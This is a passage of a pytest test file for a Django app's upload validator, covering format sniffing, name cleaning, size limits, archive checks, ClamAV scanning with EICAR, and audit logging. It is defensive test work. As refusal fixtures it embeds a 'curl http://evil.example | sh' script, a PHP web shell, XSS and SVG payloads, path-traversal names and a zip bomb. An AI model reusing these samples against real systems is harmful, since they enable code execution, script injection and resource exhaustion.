"""upload_check and its front-door helpers: formats by content, names, sizes, archives, the
malware scan against a real clamd on loopback (fail closed), 413 before the body is read,
and downloads that are never rendered inline."""

from __future__ import annotations

import hashlib
import io
import logging
import secrets
import socket
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile, UploadedFile
from django.http import HttpRequest, HttpResponse, JsonResponse
from django.template import RequestContext, Template
from django.test import Client, RequestFactory
from django.urls import include, path
from django.utils.html import escape
from django_scopes import scopes_disabled
from PIL import Image
from reportlab.pdfgen import canvas

from factories import Users, signed_in
from openar.billing.models import Document
from openar.billing.presenters import document_response
from openar.core.models import AuditEvent
from openar.core.uploads import (
    CheckedUpload,
    UploadKind,
    UploadLimitMiddleware,
    UploadRejected,
    accepts_uploads,
    attachment_response,
    content_disposition,
    upload_check,
    upload_limit,
    upload_save,
    uploads_from,
)
from openar.customers.models import Customer
from openar.tenants.models import Organization

SIGNATURE = "OpenAR-Test-EICAR.UNOFFICIAL"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
MB = 1024 * 1024


# --- real files -----------------------------------------------------------------------------


def eicar() -> bytes:
    """The EICAR test string, put together here so that this file is not itself a hit."""
    return ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*").encode()


def pdf_bytes(text: str = "Invoice 1001") -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, text)
    page.save()
    return buffer.getvalue()


def image_bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def heic_bytes() -> bytes:
    """The start of a HEIC photo as phones write it: an ftyp box, brand heic."""
    ftyp = b"ftyp" + b"heic" + b"\0\0\0\0" + b"mif1heic"
    return len(ftyp + b"\0\0\0\0").to_bytes(4, "big") + ftyp + b"\0\0\0\x08mdat" + b"\0" * 64


def zip_bytes(members: dict[str, bytes], *, first: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first is not None:
            archive.writestr(first[0], first[1], compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{main}"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="{part}"/></Relationships>'
)


def docx_bytes(extra: dict[str, bytes] | None = None, *, macros: bool = False) -> bytes:
    main = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macros
        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    members = {
        "[Content_Types].xml": CONTENT_TYPES.format(part="word/document.xml", main=main).encode(),
        "_rels/.rels": RELS.format(part="word/document.xml").encode(),
        "word/document.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Proof of delivery</w:t></w:r></w:p>'
            b"</w:body></w:document>"
        ),
        **(extra or {}),
    }
    return zip_bytes(members)


def xlsx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    members = {
        "[Content_Types].xml": CONTENT_TYPES.format(part="xl/workbook.xml", main=main).encode(),
        "_rels/.rels": RELS.format(part="xl/workbook.xml").encode(),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
        ),
        **(extra or {}),
    }
    return zip_bytes(members)


def opendocument_bytes(mimetype: str) -> bytes:
    return zip_bytes(
        {"content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<manifest/>"},
        first=("mimetype", mimetype.encode()),
    )


def encrypted(data: bytes) -> bytes:
    """A ZIP whose entries are marked encrypted (traditional PKWARE encryption: bit 0 of the
    general purpose flags), in their local headers and in the central directory."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := patched.find(signature, start)) != -1:
            patched[start + offset] |= 0x01
            start += 4
    return bytes(patched)


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def rejected(name: str, data: bytes, kind: UploadKind) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        upload_check(upload(name, data), kind=kind)
    return caught.value


# --- formats accepted -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "kind", "content_type", "filename"),
    [
        ("Invoice 1001.pdf", pdf_bytes, UploadKind.CONTRACT, "application/pdf", "Invoice 1001.pdf"),
        ("scan.png", lambda: image_bytes("PNG"), UploadKind.ATTACHMENT, "image/png", "scan.png"),
        ("photo.JPEG", lambda: image_bytes("JPEG"), UploadKind.ATTACHMENT, "image/jpeg", "photo.jpeg"),
        ("photo.webp", lambda: image_bytes("WEBP"), UploadKind.ATTACHMENT, "image/webp", "photo.webp"),
        ("IMG_0001.HEIC", heic_bytes, UploadKind.ATTACHMENT, "image/heic", "IMG_0001.heic"),
        ("pod.docx", docx_bytes, UploadKind.ATTACHMENT, DOCX, "pod.docx"),
        ("ledger.xlsx", xlsx_bytes, UploadKind.IMPORT, XLSX, "ledger.xlsx"),
        ("letter.odt", lambda: opendocument_bytes(ODT), UploadKind.DOCUMENT, ODT, "letter.odt"),
        ("sheet.ods", lambda: opendocument_bytes(ODS), UploadKind.DOCUMENT, ODS, "sheet.ods"),
        (
            "customers.csv",
            lambda: "\ufeffnumber,name\nC-1,Bolt Bäckerei\n".encode(),
            UploadKind.IMPORT,
            "text/csv",
            "customers.csv",
        ),
        ("notes.txt", lambda: b"Delivered on 3 May.\n", UploadKind.DOCUMENT, "text/plain", "notes.txt"),
        (
            "pods.zip",
            lambda: zip_bytes({"a.pdf": pdf_bytes(), "b/c.png": image_bytes("PNG")}),
            UploadKind.DOCUMENT,
            "application/zip",
            "pods.zip",
        ),
    ],
)
def test_a_clean_file_is_accepted_with_the_type_of_its_content(
    name: str, make: Callable[[], bytes], kind: UploadKind, content_type: str, filename: str
) -> None:
    data = make()
    checked = upload_check(upload(name, data, content_type="application/x-whatever"), kind=kind)

    assert isinstance(checked, CheckedUpload)
    assert (checked.content_type, checked.filename, checked.size) == (content_type, filename, len(data))
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.file.tell() == 0
    assert checked.file.read() == data
    assert checked.file.name == filename


def test_the_browsers_type_is_ignored_and_the_extension_follows_the_content() -> None:
    png = image_bytes("PNG")
    checked = upload_check(upload("photo.jpg", png, content_type="image/jpeg"), kind=UploadKind.ATTACHMENT)
    assert (checked.content_type, checked.filename) == ("image/png", "photo.png")

    checked = upload_check(upload("scan", image_bytes("JPEG")), kind=UploadKind.ATTACHMENT)
    assert (checked.content_type, checked.filename) == ("image/jpeg", "scan.jpg")

    checked = upload_check(upload("report.v2", pdf_bytes()), kind=UploadKind.DOCUMENT)
    assert (checked.content_type, checked.filename) == ("application/pdf", "report.v2.pdf")


def test_text_without_a_known_extension_is_csv_when_it_is_delimited() -> None:
    checked = upload_check(upload("export", b"a;b;c\n1;2;3\n4;5;6\n"), kind=UploadKind.IMPORT)
    assert (checked.content_type, checked.filename) == ("text/csv", "export.csv")
    checked = upload_check(upload("readme", b"Hello,\nthis is a note.\n"), kind=UploadKind.IMPORT)
    assert (checked.content_type, checked.filename) == ("text/plain", "readme.txt")


def test_a_large_file_spooled_to_disk_is_checked_too() -> None:
    data = pdf_bytes() + b"%" + b"0" * (3 * MB)
    spooled = TemporaryUploadedFile("big.pdf", "application/pdf", len(data), None)
    spooled.write(data)
    spooled.seek(0)
    try:
        checked = upload_check(spooled, kind=UploadKind.CONTRACT)
        assert (checked.size, checked.sha256) == (len(data), hashlib.sha256(data).hexdigest())
        assert checked.file.tell() == 0
    finally:
        spooled.close()


# --- formats refused ------------------------------------------------------------------------


def test_a_png_for_a_contract_says_only_pdf_can_be_signed() -> None:
    exc = rejected("contract.png", image_bytes("PNG"), UploadKind.CONTRACT)
    assert (exc.message, exc.status) == ("This file is a PNG image, but only PDF files can be signed.", 400)


def test_a_png_renamed_exe_is_refused() -> None:
    exc = rejected("invoice.exe", image_bytes("PNG"), UploadKind.ATTACHMENT)
    assert exc.message == (
        "This file is named “invoice.exe”, like a program or a web page, but contains a PNG image. "
        "Check that you chose the right file, or rename it."
    )
    assert exc.status == 400


@pytest.mark.parametrize("kind", [UploadKind.CONTRACT, UploadKind.ATTACHMENT, UploadKind.DOCUMENT])
def test_a_shell_script_renamed_pdf_is_refused(kind: UploadKind) -> None:
    exc = rejected("invoice.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n", kind)
    assert exc.message.startswith("This file is a script, but ")
    assert exc.status == 400


def test_a_script_without_a_shebang_renamed_pdf_is_refused() -> None:
    script = b"var shell = new ActiveXObject('WScript.Shell'); shell.Run('calc');\n"
    exc = rejected("invoice.pdf", script, UploadKind.CONTRACT)
    assert exc.message == "This file is a text file, but only PDF files can be signed."
    exc = rejected("invoice.pdf", script, UploadKind.DOCUMENT)
    assert exc.message == (
        "This file is named “invoice.pdf”, like a PDF file, but contains a text file. "
        "Check that you chose the right file, or rename it."
    )


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("page.html", b"<!DOCTYPE html><html><body>Pay here</body></html>", "a web page (HTML)"),
        ("notes.txt", b"\n  <html><script>alert(1)</script></html>", "a web page (HTML)"),
        ("x.csv", b"<script>alert(document.cookie)</script>", "a web page (HTML)"),
        (
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "an SVG image",
        ),
        (
            "logo.png",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "an SVG image",
        ),
        ("data.txt", b'<?xml version="1.0"?><invoice/>', "an XML file"),
        ("index.txt", b"<?php system($_GET['c']); ?>", "a script"),
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100, "a Windows program"),
        ("tool", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "a Linux program"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "an older or password-protected"),
        ("a.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "a RAR archive"),
        ("anim.gif", b"GIF89a" + b"\x00" * 100, "a GIF image"),
    ],
)
def test_pages_scripts_programs_and_other_formats_are_refused(name: str, data: bytes, what: str) -> None:
    exc = rejected(name, data, UploadKind.DOCUMENT)
    assert exc.message.startswith(f"This file is {what}")
    assert exc.message.endswith(
        "but documents can be PDF files, images (PNG, JPEG, WebP, HEIC), text or CSV files, "
        "Word, Excel or OpenDocument files, or ZIP archives of these."
    )
    assert exc.status == 400


def test_text_in_another_encoding_or_with_nul_bytes_is_refused() -> None:
    exc = rejected("customers.csv", "number;name\nC-1;Bäckerei\n".encode("cp1252"), UploadKind.IMPORT)
    assert exc.message == (
        "This file is text, but not in UTF-8. Save it as UTF-8 (in Excel: “CSV UTF-8”) and upload it again."
    )
    exc = rejected("customers.csv", b"number,name\nC-1,Bolt\x00\n", UploadKind.IMPORT)
    assert exc.message.startswith("This file is a file of a type that is not accepted, but imports must be")


def test_an_empty_file_is_refused() -> None:
    assert rejected("empty.pdf", b"", UploadKind.DOCUMENT).message == "This file is empty."


@pytest.mark.parametrize("macros", ["docm", "vba"])
def test_office_files_with_macros_are_refused(macros: str) -> None:
    data = docx_bytes(macros=True) if macros == "docm" else docx_bytes({"word/vbaProject.bin": b"\x01" * 10})
    exc = rejected("report.docx", data, UploadKind.DOCUMENT)
    assert exc.message.startswith("This Office file contains macros, which are not accepted")


def test_a_zip_with_office_members_but_no_main_part_is_refused() -> None:
    data = zip_bytes({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})
    exc = rejected("slides.pptx", data, UploadKind.DOCUMENT)
    assert exc.message == (
        "This Office file is not a Word document or an Excel workbook, the Office files accepted."
    )


def test_a_zip_is_not_an_attachment() -> None:
    exc = rejected("pods.zip", zip_bytes({"a.pdf": pdf_bytes()}), UploadKind.ATTACHMENT)
    assert exc.message.startswith("This file is a ZIP archive, but attachments can be PDF files")


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("declared", "cleaned"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\dana\\Desktop\\Invoice 7.pdf", "Invoice 7.pdf"),
        ("in\x00voi\x1bce\r\n.pdf", "invoice.pdf"),
        ("inv\u202efdp.exe.pdf", "invfdp.exe.pdf"),  # the right-to-left override is dropped
        ("   ..hidden.pdf  ", "hidden.pdf"),
        ('a<b>c:"d"|e?*.pdf', "a_b_c__d__e__.pdf"),
        ("\t\t", "upload.pdf"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
        ("Facture été.pdf", "Facture été.pdf"),
    ],
)
def test_the_name_is_cleaned_for_display_and_downloads(declared: str, cleaned: str) -> None:
    checked = upload_check(upload(declared, pdf_bytes()), kind=UploadKind.CONTRACT)
    assert checked.filename == cleaned


# --- sizes ----------------------------------------------------------------------------------


def test_limits_per_kind_come_from_settings(settings: Any) -> None:
    assert [upload_limit(kind) for kind in UploadKind] == [20 * MB, 10 * MB, 20 * MB, 50 * MB]
    settings.OPENAR_UPLOAD_LIMITS = {**settings.OPENAR_UPLOAD_LIMITS, "contract": 1000}
    assert upload_limit("contract") == 1000


def test_a_file_over_the_limit_is_a_413_that_says_the_limit() -> None:
    exc = rejected("big.pdf", pdf_bytes() + b"0" * (12 * MB), UploadKind.ATTACHMENT)
    assert (exc.status, exc.code) == (413, "too_large")
    assert exc.message == "This file is 12 MB; attachments can be at most 10 MB."

    exc = rejected("big.pdf", b"%PDF-1.4\n" + b"0" * (int(10.5 * MB) - 9), UploadKind.ATTACHMENT)
    assert exc.message == "This file is 10.5 MB; attachments can be at most 10 MB."

    exc = rejected("big.pdf", b"%PDF-1.4\n" + b"0" * (10 * MB - 8), UploadKind.ATTACHMENT)
    assert exc.message == "This file is just over 10 MB; attachments can be at most 10 MB."

    exactly = b"%PDF-1.4\n" + b"0" * (10 * MB - 9)
    assert upload_check(upload("max.pdf", exactly), kind=UploadKind.ATTACHMENT).size == 10 * MB


def test_the_size_is_measured_not_believed(settings: Any) -> None:
    settings.OPENAR_UPLOAD_LIMITS = {**settings.OPENAR_UPLOAD_LIMITS, "contract": 2000}
    lying = upload("big.pdf", pdf_bytes() + b"0" * 3000)
    lying.size = 10
    with pytest.raises(UploadRejected) as caught:
        upload_check(lying, kind=UploadKind.CONTRACT)
    assert caught.value.status == 413
    assert caught.value.message.endswith("contracts can be at most 2 KB.")


# --- archives -------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_what_it_really_unpacks_to() -> None:
    """210 MB of zeros packs into a few hundred KB: past the 200 MB unpacked limit."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.txt", "w") as member,
    ):
        block = b"\0" * MB
        for _ in range(210):
            member.write(block)
    data = buffer.getvalue()
    assert len(data) < MB
    exc = rejected("bomb.zip", data, UploadKind.DOCUMENT)
    assert exc.message == "This archive unpacks to more than 200 MB, which is more than accepted."


def test_an_archive_with_too_many_entries_is_refused(settings: Any) -> None:
    settings.OPENAR_ARCHIVE_MAX_MEMBERS = 10
    ten = zip_bytes({f"{i}.txt": b"note\n" for i in range(10)})
    assert upload_check(upload("ten.zip", ten), kind=UploadKind.DOCUMENT).content_type == "application/zip"
    exc = rejected("eleven.zip", zip_bytes({f"{i}.txt": b"note\n" for i in range(11)}), UploadKind.DOCUMENT)
    assert exc.message == "This archive holds more than 10 files, which is more than accepted."


def test_an_office_file_is_an_archive_too(settings: Any) -> None:
    settings.OPENAR_ARCHIVE_MAX_SIZE = 100_000
    exc = rejected("big.xlsx", xlsx_bytes({"xl/sheet1.xml": b"<row/>" * 40_000}), UploadKind.IMPORT)
    assert exc.message == "This archive unpacks to more than 98 KB, which is more than accepted."


@pytest.mark.parametrize("make", [lambda: zip_bytes({"a.pdf": pdf_bytes()}), docx_bytes])
def test_an_encrypted_zip_or_office_file_is_refused(make: Callable[[], bytes]) -> None:
    exc = rejected("secret.zip", encrypted(make()), UploadKind.DOCUMENT)
    assert exc.message == (
        "This file is encrypted (password-protected), so it cannot be checked; upload it without a password."
    )


def test_one_archive_inside_an_archive_is_accepted_but_not_two() -> None:
    """An office file is an archive too: a Word document in a ZIP is one level."""
    inner = zip_bytes({"pod.pdf": pdf_bytes(), "pod.png": image_bytes("PNG")})
    data = zip_bytes({"inner.zip": inner, "pod.docx": docx_bytes()})
    checked = upload_check(upload("all.zip", data), kind=UploadKind.DOCUMENT)
    assert checked.content_type == "application/zip"

    exc = rejected("deep.zip", zip_bytes({"outer.zip": zip_bytes({"inner.zip": inner})}), UploadKind.DOCUMENT)
    assert exc.message == (
        "This archive contains “inner.zip”, an archive inside an archive inside an archive; "
        "only one level of archives inside an archive is accepted."
    )
    exc = rejected(
        "deep.zip", zip_bytes({"outer.zip": zip_bytes({"a.docx": docx_bytes()})}), UploadKind.DOCUMENT
    )
    assert exc.message.startswith("This archive contains “a.docx”, an archive inside an archive inside")


@pytest.mark.parametrize(
    ("members", "message"),
    [
        (
            {"docs/run.exe": b"MZ" + b"\0" * 64},
            "This archive contains “run.exe”, named like a program or a web page.",
        ),
        (
            {"docs/readme.pdf": b"MZ" + b"\0" * 64},
            "This archive contains “readme.pdf”, which is a Windows program; an archive can only hold "
            "files that documents accept.",
        ),
        (
            {"page.txt": b"<html><script>alert(1)</script></html>"},
            "This archive contains “page.txt”, which is a web page (HTML); an archive can only hold "
            "files that documents accept.",
        ),
        ({"../../evil.pdf": pdf_bytes()}, "This archive names a file outside itself, which is not accepted."),
        ({"/etc/cron.d/x": b"x\n"}, "This archive names a file outside itself, which is not accepted."),
    ],
)
def test_what_an_archive_holds_is_checked_too(members: dict[str, bytes], message: str) -> None:
    assert rejected("bundle.zip", zip_bytes(members), UploadKind.DOCUMENT).message == message


def test_a_damaged_zip_is_refused() -> None:
    data = zip_bytes({"a.pdf": pdf_bytes()})
    exc = rejected("broken.zip", data[: len(data) // 2], UploadKind.DOCUMENT)
    assert exc.message == "This ZIP archive is damaged and could not be read."


# --- the malware scan (a real clamd with the EICAR test signature) -------------------------


def test_eicar_raw_is_refused_by_the_scanner(clamd: str) -> None:
    exc = rejected("eicar.txt", eicar(), UploadKind.DOCUMENT)
    assert exc.message == f"This file contains malware ({SIGNATURE}) and was not accepted."
    assert (exc.status, exc.code) == (400, "malware")


def test_eicar_zipped_is_refused_by_the_scanner(clamd: str) -> None:
    data = zip_bytes({"invoices/readme.txt": b"see attached\n", "invoices/eicar.txt": eicar()})
    exc = rejected("invoices.zip", data, UploadKind.DOCUMENT)
    assert exc.message == f"This file contains malware ({SIGNATURE}) and was not accepted."


def test_eicar_renamed_pdf_is_refused(clamd: str) -> None:
    """By its content before any scan; and a real PDF carrying the string, by the scanner."""
    exc = rejected("invoice.pdf", eicar(), UploadKind.ATTACHMENT)
    assert exc.message.startswith("This file is a text file, but attachments can be")

    carrier = pdf_bytes().replace(b"%%EOF", b"%" + eicar() + b"\n%%EOF")
    exc = rejected("invoice.pdf", carrier, UploadKind.CONTRACT)
    assert exc.message == f"This file contains malware ({SIGNATURE}) and was not accepted."


@pytest.mark.parametrize(
    ("name", "make", "kind"),
    [
        ("pod.docx", lambda: docx_bytes({"word/media/note.txt": eicar()}), UploadKind.ATTACHMENT),
        ("ledger.xlsx", lambda: xlsx_bytes({"xl/embeddings/x.bin": eicar()}), UploadKind.IMPORT),
    ],
)
def test_eicar_inside_an_office_document_is_refused_by_the_scanner(
    clamd: str, name: str, make: Callable[[], bytes], kind: UploadKind
) -> None:
    exc = rejected(name, make(), kind)
    assert exc.message == f"This file contains malware ({SIGNATURE}) and was not accepted."


def test_clean_files_pass_the_scanner(clamd: str) -> None:
    for name, data, kind in [
        ("a.pdf", pdf_bytes(), UploadKind.CONTRACT),
        ("b.docx", docx_bytes(), UploadKind.ATTACHMENT),
        ("c.zip", zip_bytes({"a.pdf": pdf_bytes()}), UploadKind.DOCUMENT),
    ]:
        assert upload_check(upload(name, data), kind=kind).size == len(data)


def test_the_scanner_over_tcp_on_loopback(clamd_tcp: str) -> None:
    exc = rejected("eicar.csv", eicar(), UploadKind.IMPORT)
    assert exc.message == f"This file contains malware ({SIGNATURE}) and was not accepted."


UNCHECKED = (
    "This file could not be checked for viruses right now, so it was not accepted. "
    "Please try again in a few minutes."
)


def test_a_configured_scanner_whose_socket_is_missing_refuses_every_file(
    settings: Any, tmp_path: Path
) -> None:
    settings.OPENAR_CLAMD = f"unix:{tmp_path / 'clamd.ctl'}"
    exc = rejected("clean.pdf", pdf_bytes(), UploadKind.CONTRACT)
    assert (exc.message, exc.status, exc.code) == (UNCHECKED, 503, "scanner_unavailable")


def test_a_configured_scanner_that_is_down_refuses(settings: Any) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.OPENAR_CLAMD = f"tcp://127.0.0.1:{port}"
    assert rejected("clean.pdf", pdf_bytes(), UploadKind.CONTRACT).message == UNCHECKED


def test_a_scanner_that_answers_late_or_with_an_error_refuses(settings: Any, tmp_path: Path) -> None:
    """A daemon that takes the file and never answers: refused after OPENAR_CLAMD_TIMEOUT."""
    path = str(tmp_path / "slow.sock")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(path)
        server.listen(1)
        settings.OPENAR_CLAMD = f"unix:{path}"
        settings.OPENAR_CLAMD_TIMEOUT = 1
        exc = rejected("clean.pdf", pdf_bytes(), UploadKind.CONTRACT)
    assert (exc.message, exc.status) == (UNCHECKED, 503)


def test_a_misconfigured_scanner_refuses(settings: Any) -> None:
    settings.OPENAR_CLAMD = "clamd.example:3310"
    assert rejected("clean.pdf", pdf_bytes(), UploadKind.CONTRACT).message == UNCHECKED


def test_no_scanner_configured_means_no_scan(settings: Any) -> None:
    settings.OPENAR_CLAMD = ""
    checked = upload_check(upload("eicar.txt", eicar()), kind=UploadKind.DOCUMENT)
    assert checked.content_type == "text/plain"


# --- clamd's own limits -----------------------------------------------------------------------

TOO_BIG_TO_SCAN = (
    "This file is too large or holds too many files to be checked for viruses, so it was not accepted. "
    "Split it into smaller files and upload them one by one."
)


def test_a_file_past_clamds_limits_is_refused_as_unscannable_not_as_clean(
    clamd: str, settings: Any, db: None
) -> None:
    """clamd scans at most MaxFiles (10,000) files of an archive. Past it, without
    ``AlertExceedsMax yes`` it answers OK for what it did not look at; with it, the upload is
    refused, and not as malware."""
    settings.OPENAR_ARCHIVE_MAX_MEMBERS = 20_000
    token = secrets.token_hex(8).encode()  # clamd caches verdicts by content: a new archive each run
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10_050):
            archive.writestr(f"notes/{number:05d}.txt", b"note %d %s\n" % (number, token))
    exc = rejected("notes.zip", buffer.getvalue(), UploadKind.DOCUMENT)
    assert (exc.message, exc.status, exc.code) == (TOO_BIG_TO_SCAN, 400, "unscannable")
    with scopes_disabled():
        assert not AuditEvent.objects.filter(action="openar.upload.malware").exists()


def test_a_limits_answer_from_any_clamd_is_unscannable(settings: Any, tmp_path: Path) -> None:
    path = str(tmp_path / "limits.sock")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(path)
        server.listen(1)

        def answer() -> None:
            conn, _ = server.accept()
            with conn:
                received = b""
                while not received.endswith(b"\0\0\0\0"):
                    received += conn.recv(65536)
                conn.sendall(b"stream: Heuristics.Limits.Exceeded.MaxScanSize FOUND\0")

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        settings.OPENAR_CLAMD = f"unix:{path}"
        exc = rejected("big.pdf", pdf_bytes(), UploadKind.CONTRACT)
        thread.join(5)
    assert (exc.message, exc.code) == (TOO_BIG_TO_SCAN, "unscannable")


# --- malware in the audit log -----------------------------------------------------------------


def malware_events() -> list[AuditEvent]:
    with scopes_disabled():
        return list(AuditEvent.objects.filter(action="openar.upload.malware").order_by("pk"))


def test_malware_found_is_audited_in_the_organization_with_the_uploader(
    clamd: str, supplier: Organization, users: Users
) -> None:
    with pytest.raises(UploadRejected) as caught:
        upload_check(
            upload("Remittance.txt", eicar()),
            kind=UploadKind.DOCUMENT,
            organization=supplier,
            actor=users.collector,
            ip="203.0.113.7",
        )
    assert caught.value.code == "malware"
    [event] = malware_events()
    assert (event.organization_id, event.actor_id, event.ip) == (
        supplier.pk,
        users.collector.pk,
        "203.0.113.7",
    )
    assert (event.object_type, event.object_id) == ("", "")
    assert event.data == {
        "signature": SIGNATURE,
        "kind": "document",
        "filename": "Remittance.txt",
        "size": len(eicar()),
        "sha256": hashlib.sha256(eicar()).hexdigest(),
    }


def test_malware_without_an_organization_is_logged_only(
    clamd: str, db: None, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="openar.core.uploads"):
        exc = rejected("eicar.txt", eicar(), UploadKind.DOCUMENT)
    assert exc.code == "malware"
    assert malware_events() == []
    digest = hashlib.sha256(eicar()).hexdigest()
    assert [record.getMessage() for record in caplog.records] == [
        f"upload refused: malware {SIGNATURE} found in eicar.txt (sha256 {digest})"
    ]


def test_clean_files_and_other_refusals_are_not_audited_as_malware(
    clamd: str, supplier: Organization
) -> None:
    upload_check(upload("a.pdf", pdf_bytes()), kind=UploadKind.CONTRACT, organization=supplier)
    with pytest.raises(UploadRejected):
        upload_check(upload("a.exe", pdf_bytes()), kind=UploadKind.CONTRACT, organization=supplier)
    assert malware_events() == []


def test_malware_sent_from_the_portal_is_audited_in_the_customers_organization(
    clamd: str, users: Users, supplier: Organization
) -> None:
    """The views pass nothing: uploads_from takes the organization, the user and the address
    from the request."""
    response = signed_in(users.customer).post(
        "/portal/documents/upload/",
        {"files": upload("pod.txt", eicar()), "kind": "proof_of_delivery"},
        REMOTE_ADDR="198.51.100.20",
    )
    assert response.status_code == 400
    assert f"This file contains malware ({SIGNATURE}) and was not accepted." in response.content.decode()
    [event] = malware_events()
    assert (event.organization_id, event.actor_id, event.ip) == (
        supplier.pk,
        users.customer.pk,
        "198.51.100.20",
    )
    assert (event.data["filename"], event.data["kind"]) == ("pod.txt", "document")
    with scopes_disabled():
        assert not Document.objects.filter(organization=supplier).exists()


def test_malware_sent_from_the_desk_is_audited_with_the_collector(
    clamd: str, users: Users, supplier: Organization, customer: Customer
) -> None:
    response = signed_in(users.collector).post(
        f"/desk/customers/{customer.pk}/documents/upload/",
        {"files": upload("lading.zip", zip_bytes({"lading/eicar.txt": eicar()})), "kind": "bill_of_lading"},
    )
    assert response.status_code == 400
    [event] = malware_events()
    assert (event.organization_id, event.actor_id, event.ip) == (supplier.pk, users.collector.pk, "127.0.0.1")
    assert (event.data["filename"], event.data["signature"]) == ("lading.zip", SIGNATURE)


# --- storing --------------------------------------------------------------------------------


def test_a_checked_upload_is_stored_under_a_name_the_server_makes() -> None:
    data = pdf_bytes()
    checked = upload_check(upload("../../Invoice 7.pdf", data), kind=UploadKind.CONTRACT)
    name = upload_save(checked, folder="contracts/acme")
    parts = name.split("/")
    assert parts[:2] == ["contracts", "acme"] and len(parts) == 5
    assert len(parts[4]) == len("0" * 32 + ".pdf") and parts[4].endswith(".pdf")
    assert "Invoice" not in name
    with default_storage.open(name, "rb") as stored:
        assert stored.read() == data
    assert checked.file.tell() == 0
    default_storage.delete(name)


# --- views: uploads_from, the 413 before the body is read ----------------------------------

CALLS: list[str] = []


FORM_PAGE = Template(
    """{% extends "base.html" %}{% block title %}Upload a contract{% endblock %}
{% block content %}<div class="card card--narrow"><h1>Upload a contract</h1>
<form method="post" enctype="multipart/form-data" action="/upload/">{% csrf_token %}
{% if error %}<p class="field-error" role="alert" id="contract-error">{{ error }}</p>{% endif %}
<label for="contract">Contract (PDF)</label>
<input type="file" id="contract" name="contract"{% if error %} aria-invalid="true"
 aria-describedby="contract-error"{% endif %}>
<button class="button" type="submit">Upload</button></form></div>{% endblock %}"""
)


def contract_form_view(request: HttpRequest) -> HttpResponse:
    return HttpResponse(FORM_PAGE.render(RequestContext(request, {})))


@accepts_uploads(UploadKind.CONTRACT)
def contract_upload_view(request: HttpRequest) -> HttpResponse:
    """A front door as the contract pages write theirs: the refusal on the page, status kept."""
    CALLS.append(request.method or "")
    try:
